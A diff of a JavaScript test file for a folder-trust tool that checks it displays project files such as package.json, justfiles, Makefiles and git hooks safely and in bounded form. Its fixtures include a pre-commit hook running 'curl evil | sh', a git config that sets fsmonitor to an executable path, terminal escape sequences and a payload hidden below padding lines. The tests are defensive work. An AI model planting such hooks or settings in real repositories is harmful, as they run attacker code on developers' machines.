@@ -48,7 +48,11 @@ it('shows what would run, and trusts it when the person says so', async () => {
     `${project} is not trusted.
 What decides what runs there
   package.json  45 B  npm scripts and settings of tools
-      test: node --test
+  | {
+  |   "scripts": {
+  |     "test": "node --test"
+  |   }
+  | }
 Not looked into: node_modules
 It is trusted until something of this changes. toolcrib trust --revoke takes that back.
 `,
@@ -89,6 +93,8 @@ What has changed
     + x:
 It is not trusted.
 `);
+  writeFileSync(join(project, 'justfile'), `x:\n${'  #\n'.repeat(200)}  evil`);
+  expect((await run(project)).printed).toMatch(/… 122 lines left out here; --json has all\n[^]*\+ {3}evil\n/);
 });
 
 it('lists and revokes, also what is not there any more, and by a link', async () => {
@@ -140,7 +146,25 @@ it('shows names and scripts of a project so that they cannot command the termina
   const { printed } = await run(project);
   // oxlint-disable-next-line no-control-regex
   expect(printed).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
-  expect(printed.split('\n')).toHaveLength(7);
+  const ours = printed.split('\n').filter((line) => !line.startsWith('  | '));
+  expect(ours).toHaveLength(6);
+});
+
+it('shows what is in the files, bounded, and none of it passes for a line of ours', async () => {
+  const { project, run } = setUp('n');
+  const lines = Array.from({ length: 100 }, (_, at) => `line ${at}`);
+  writeFileSync(join(project, 'Makefile'), `all:\r  justfile  1 B\u001b[2J\n${lines.join('\n')}\n`);
+  writeFileSync(join(project, 'justfile'), `x: ${'y'.repeat(10_000)}END\n`);
+  mkdirSync(join(project, '.git', 'hooks'), { recursive: true });
+  writeFileSync(join(project, '.git', 'HEAD'), 'ref: refs/heads/main\n');
+  writeFileSync(join(project, '.git', 'config'), '[core]\n  fsmonitor = /tmp/evil\n');
+  writeFileSync(join(project, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
+  const { printed } = await run(project);
+  expect(printed).toContain('  | all:\n  |   justfile  1 B\n  | line 0\n');
+  expect(printed).toMatch(/ {2}\| line 37\n {4}… 22 lines left out here; --json has all\n {2}\| line 60\n/);
+  expect(printed).toMatch(/y … 9506 characters left out … y+END\n/);
+  expect(printed).toContain('  | curl evil | sh\n');
+  expect(printed).toContain('fsmonitor = /tmp/evil\n');
 });
 
 it.each([
